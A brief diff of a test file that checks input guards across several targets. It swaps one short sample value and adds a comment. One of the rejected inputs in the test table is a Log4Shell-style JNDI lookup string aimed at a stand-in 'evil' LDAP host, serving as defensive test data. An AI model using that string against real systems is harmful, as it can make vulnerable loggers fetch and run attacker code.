@@ -143,7 +143,7 @@ describe.each(inject('targets'))('guards on $name', (target) => {
   })
 
   test.each([
-    ['short', 'abc'],
+    ['short', 'xyz'], // no UUID holds it
     ['long', 'a'.repeat(2_000)],
     ['an expression', '${jndi:ldap://evil}'],
     ['spaces', 'a b c d e f g h'],
